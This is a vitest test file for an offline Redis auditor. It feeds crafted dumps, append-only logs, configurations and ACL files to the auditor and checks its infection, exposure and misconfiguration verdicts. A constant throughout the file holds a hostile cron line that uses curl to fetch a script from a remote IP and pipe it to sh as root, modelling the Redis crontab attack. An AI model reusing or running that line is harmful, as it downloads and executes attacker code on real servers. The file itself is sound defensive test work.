import { spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeEach, describe, expect, test } from 'vitest';
import type { AuditFilesOptions } from '../src/audit/offline/audit-files.ts';
import { auditFiles } from '../src/audit/offline/audit-files.ts';
import type { AuditReport } from '../src/model/audit-report.ts';
import { AuditReport as Schema } from '../src/model/audit-report.ts';
import { systemClock } from '../src/platform/clock.ts';
import { OPCODE, TYPE } from '../src/redis/rdb-types.ts';
import { testKnowledge } from './peers/hostile-knowledge.ts';
import { key, rdb, text } from './peers/sample-rdb.ts';

const CRON = '\n\n*/2 * * * * root curl http://203.0.113.9/x | sh\n\n';
const root = mkdtempSync(join(tmpdir(), 'sundew-offline-'));
let folder = root;

beforeEach(() => {
  folder = mkdtempSync(join(root, 'case-'));
});
afterAll(() => rmSync(root, { recursive: true }));

function put(name: string, content: string | Buffer, mode = 0o640): string {
  const path = join(folder, name);
  writeFileSync(path, content, 'latin1');
  chmodSync(path, mode);
  return path;
}

async function audit(path: string, options: Partial<AuditFilesOptions> = {}): Promise<AuditReport> {
  const report = await auditFiles(path, testKnowledge(), { clock: systemClock, ...options });
  Schema.parse(report);
  return report;
}

const rulesOf = ({ findings }: AuditReport): string[] => findings.map(({ rule }) => rule);
const command = (...words: readonly string[]): string =>
  `*${words.length}\r\n${words.map((word) => `$${word.length}\r\n${word}\r\n`).join('')}`;

describe('a damaged dump', () => {
  test('is judged as far as it can be read, and says where it ends', async () => {
    const first = key(TYPE.string, 'bad', text(CRON));
    const path = put('dump.rdb', rdb([first, key(77, 'x', text('1')), key(TYPE.string, 'y', text('1'))]));

    const report = await audit(path);

    expect(report.kind).toBe('rdb');
    expect(report.outcome).toBe('partial');
    expect(report.axes.infected.answer).toBe('yes');
    expect(report.message).toContain(`damaged at byte ${9 + first.length}: an unknown type of value, 77`);
    expect(rulesOf(report)).toContain('audit.misconfigured.dump-damaged');
    expect(report.notTested.join('\n')).toMatch(/\d+ bytes behind byte \d+ were not read/);
  });

  test('with honest data before the damage is not called clean', async () => {
    const path = put('dump.rdb', rdb([key(TYPE.string, 'good', text('1')), key(77, 'x', text('1'))]));

    const { axes } = await audit(path);

    expect([axes.infected.answer, axes.leaking.answer]).toEqual(['not-visible', 'not-visible']);
  });

  test('with a wrong checksum is read whole, and told', async () => {
    const bytes = rdb([key(TYPE.string, 'good', text('1'))]);
    bytes[bytes.length - 2] = (bytes.at(-2) ?? 0) ^ 4;

    const report = await audit(put('dump.rdb', bytes));

    expect(report.outcome).toBe('audited');
    expect(rulesOf(report)).toContain('audit.misconfigured.dump-checksum');
  });
});

describe('an append-only file', () => {
  test('that ends within a command is judged without it', async () => {
    const path = put('x.aof', `${command('SET', 'bad', CRON)}*3\r\n$3\r\nSET\r\n$1`);

    const report = await audit(path);

    expect([report.kind, report.outcome, report.axes.infected.answer]).toEqual(['aof', 'audited', 'yes']);
    expect(report.notTested.join('\n')).toContain('it ends within a command');
  });

  test('of which the attack is gone tells of it, and calls nothing infected', async () => {
    const path = put(
      'x.aof',
      `${command('SET', 'bad', CRON)}${command('HSET', 'h', 'f', CRON)}${command('FLUSHALL')}${command('SET', 'a', '1')}`,
    );

    const report = await audit(path);

    expect(report.axes.infected.answer).not.toBe('yes');
    expect(report.counts.maliciousValues).toBe(0);
    expect(rulesOf(report)).toContain('audit.infected.append-only-history');
  });

  test('of several parts is read by its manifest', async () => {
    put('a.1.base.rdb', rdb([key(TYPE.string, 'base', text('1'))]));
    put('a.1.incr.aof', command('SET', 'bad', CRON));
    put('a.0.incr.aof', command('SET', 'old', CRON));
    const path = put(
      'a.manifest',
      'file a.1.base.rdb seq 1 type b\nfile a.0.incr.aof seq 0 type h\nfile a.1.incr.aof seq 1 type i\n',
    );

    for (const one of [path, folder]) {
      const { counts, axes } = await audit(one);

      expect([counts.keysSeen, counts.maliciousValues, axes.infected.answer]).toEqual([2, 1, 'yes']);
    }
  });
});

describe('attacks in several files', () => {
  test('are found in a log beside a dump, and behind one that is cut', async () => {
    put('dump.rdb', rdb([key(TYPE.string, 'good', text('x'.repeat(5_000)))]));
    put(
      'a.aof',
      `${command('SET', 'honest', 'y'.repeat(4_000))}${command('SET', 'gone', 'z')}*3\r\n$3\r\nSET\r\n`,
    );
    put('b.aof', command('SET', 'bad', CRON));

    const { axes, counts } = await audit(folder);

    expect([axes.infected.answer, counts.maliciousValues]).toEqual(['yes', 1]);
  });

  test('are not found where a later file took them away', async () => {
    put('a.aof', `${command('SET', 'bad', CRON)}${command('SET', 'x', '1')}`);
    put('b.aof', command('DEL', 'bad'));

    const { axes, counts } = await audit(folder);

    expect([axes.infected.answer === 'yes', counts.maliciousValues]).toEqual([false, 0]);
  });

  test('are found under the name to which they were moved, and not when that is gone', async () => {
    const moved = `${command('SET', 'bad', CRON)}${command('RENAME', 'bad', 'good')}`;
    const there = await audit(put('there.aof', moved));
    const gone = await audit(put('gone.aof', `${moved}${command('DEL', 'good')}`));

    expect([there.axes.infected.answer, gone.axes.infected.answer === 'yes']).toEqual(['yes', false]);
  });
});

describe('a configuration', () => {
  test.for([
    ['users in a file that is not there', 'aclfile /etc/nobody/users.acl\n'],
    ['an included file that is not there', 'include nowhere.conf\n'],
    ['more lines than are read', '#\n'.repeat(200_000)],
  ] as const)('with %s is not called open to everybody', async ([, lines]) => {
    const { axes, notTested } = await audit(put('redis.conf', `bind 0.0.0.0\nprotected-mode no\n${lines}`));

    expect(axes.exposed.answer).toBe('not-visible');
    expect(notTested.join('\n')).toMatch(/cannot be read|are read/);
  });

  test('tells which dangerous commands still bear their names', async () => {
    const renamed = [
      'config',
      'debug',
      'eval',
      'flushall',
      'migrate',
      'module',
      'replicaof',
      'save',
      'slaveof',
    ]
      .map((name) => `rename-command ${name} ""\n`)
      .join('');
    const open = 'bind 0.0.0.0\nprotected-mode no\n';

    const usable = async (name: string, lines: string): Promise<string | undefined> =>
      (await audit(put(name, lines))).findings.find(({ rule }) => rule === 'audit.exposed.dangerous-commands')
        ?.evidence[0]?.excerpt;

    expect(await usable('a.conf', open)).toContain('config debug eval');
    expect(await usable('b.conf', open + renamed)).toBe('shutdown');
    expect(await usable('c.conf', `${open}${renamed}rename-command SHUTDOWN x\n`)).toBeUndefined();
  });

  test('that is too long is refused, not judged as defaults', async () => {
    const { outcome, message } = await audit(
      put('redis.conf', `bind 0.0.0.0\n${'# nothing\n'.repeat(500_000)}`),
    );

    expect([outcome, message]).toEqual(['bad-target', expect.stringContaining('EFBIG')]);
  });

  test('tells who can come in, without any data', async () => {
    const path = put('redis.conf', 'bind 0.0.0.0\nprotected-mode no\nsave 900 1\nsave 300 10\n');

    const { kind, axes, server } = await audit(path);

    expect([kind, axes.exposed.answer, axes.infected.answer, server]).toEqual([
      'config',
      'yes',
      'not-visible',
      undefined,
    ]);
  });

  test('with a weak password is told, and the password is nowhere in the report', async () => {
    const report = await audit(
      put('redis.conf', 'bind 0.0.0.0\nrequirepass foobared\nmasterauth foobared\n'),
    );

    expect(rulesOf(report)).toContain('audit.exposed.weak-passwords');
    expect(JSON.stringify(report)).not.toContain('foobared');
  });

  test('takes included files below its folder, and no others', async () => {
    const secret = join(root, 'elsewhere.conf');
    writeFileSync(secret, 'protected-mode no\nbind 0.0.0.0\n');
    symlinkSync(secret, join(folder, 'link.conf'));
    mkdirSync(join(folder, 'conf.d'));
    put('conf.d/more.conf', 'dir /tmp\ninclude conf.d/more.conf\n');
    const path = put(
      'redis.conf',
      `port 6379\ninclude conf.d/*.conf\ninclude ${secret}\ninclude link.conf\n`,
    );

    const report = await audit(path);

    expect(rulesOf(report)).toContain('audit.misconfigured.dir');
    expect(report.notTested.filter((line) => line.includes('lies in another folder'))).toHaveLength(2);
    expect(report.axes.exposed.answer).not.toBe('yes');
  });

  test('of users is judged by what they may', async () => {
    const { kind, findings } = await audit(
      put('users.acl', 'user default on nopass ~* &* +@all\nuser app off\n'),
    );

    expect(kind).toBe('acl');
    expect(findings.map(({ axis }) => axis)).toContain('exposed');
  });
});

describe('a folder', () => {
  test('is one server: its dump, its configuration and its users', async () => {
    put('dump.rdb', rdb([key(TYPE.string, 'bad', text(CRON))]));
    put('redis.conf', 'bind 0.0.0.0\nprotected-mode yes\nport 6379\n');
    put('users.acl', 'user default on nopass ~* &* +@all\n');
    put('notes.txt', 'nothing of a Redis');

    const { kind, axes, counts } = await audit(folder);

    expect([kind, axes.infected.answer, counts.keysSeen]).toEqual(['folder', 'yes', 1]);
  });

  test('whose files everybody may read is told, unless it is closed itself', async () => {
    chmodSync(root, 0o755);
    chmodSync(folder, 0o755);
    const path = put('dump.rdb', rdb([]), 0o644);

    const open = rulesOf(await audit(path));
    chmodSync(folder, 0o750);
    const closed = rulesOf(await audit(path));
    chmodSync(root, 0o700);

    expect(open).toContain('audit.misconfigured.dump-readable');
    expect(closed).not.toContain('audit.misconfigured.dump-readable');
  });

  test('without anything of a Redis, and a path that is not there, are bad targets', async () => {
    for (const path of [folder, join(folder, 'nothing'), put('x.txt', 'hello\n'), '/dev/null']) {
      const { outcome, message } = await audit(path);

      expect([outcome, message]).toEqual(['bad-target', expect.stringContaining(path)]);
    }
  });
});

describe('a large dump', () => {
  const filler = Array.from({ length: 3_000 }, (_, at) =>
    key(TYPE.string, `honest:${at}`, text(`value ${at} ${'x'.repeat(500)}`)),
  );

  test('is judged in part, and what looks like an attack in any case', async () => {
    const path = put('dump.rdb', rdb([...filler, key(TYPE.string, 'late', text(CRON))]));

    const { counts, axes, notTested } = await audit(path, { valueBudget: 200_000 });

    expect(axes.infected.answer).toBe('yes');
    expect(counts.keysSeen).toBe(3_001);
    expect(counts.valuesRead).toBeGreaterThan(50);
    expect(counts.valuesRead).toBeLessThan(1_000);
    expect(notTested.join('\n')).toContain(`values: ${counts.valuesRead} of 3001 keys were read`);
  });

  test('is judged where the name of a key is like no other, whatever the value looks like', async () => {
    const hidden = `${' '.repeat(700)}${CRON}`;
    const path = put('dump.rdb', rdb([...filler, key(TYPE.string, '.x-y', text(hidden))]));

    const { axes } = await audit(path, { valueBudget: 200_000 });

    expect(axes.infected.answer).toBe('yes');
  });

  test('ends where the budget of bytes ends, or when it is stopped', async () => {
    const big = Buffer.concat(Array.from({ length: 12 }, () => Buffer.concat(filler)));
    const path = put('dump.rdb', rdb([big]));
    const seen: number[] = [];

    const capped = await audit(path, {
      maxBytes: 1_000_000,
      valueBudget: 1_000,
      progress: (done) => seen.push(done),
    });
    const stopped = await audit(path, { signal: AbortSignal.abort(), valueBudget: 1_000 });

    expect([capped.outcome, stopped.outcome]).toEqual(['partial', 'partial']);
    expect(capped.message).toContain('the budget of bytes is used up');
    expect(stopped.axes.infected.answer).toBe('not-visible');
    expect(seen.length).toBeGreaterThan(0);
  });
});

test('standard input is read as a file is', () => {
  const script = `
    const { auditFiles } = await import(${JSON.stringify(join(import.meta.dirname, '../src/audit/offline/audit-files.ts'))});
    const { testKnowledge } = await import(${JSON.stringify(join(import.meta.dirname, 'peers/hostile-knowledge.ts'))});
    const { systemClock } = await import(${JSON.stringify(join(import.meta.dirname, '../src/platform/clock.ts'))});
    const { kind, target, axes, outcome, server } = await auditFiles('-', testKnowledge(), { clock: systemClock });
    console.log(JSON.stringify([kind, target, axes.infected.answer, outcome, server?.version]));`;
  const input = rdb([
    Buffer.from([OPCODE.aux]),
    text('redis-ver'),
    text('7.4.0'),
    Buffer.from([OPCODE.selectDb, 0]),
    key(TYPE.string, 'bad', text(CRON)),
  ]);

  const { stdout, stderr } = spawnSync(process.execPath, ['--input-type=module', '-e', script], { input });

  expect(stderr.toString()).toBe('');
  expect(JSON.parse(stdout.toString())).toEqual(['rdb', 'standard input', 'yes', 'audited', '7.4.0']);
});
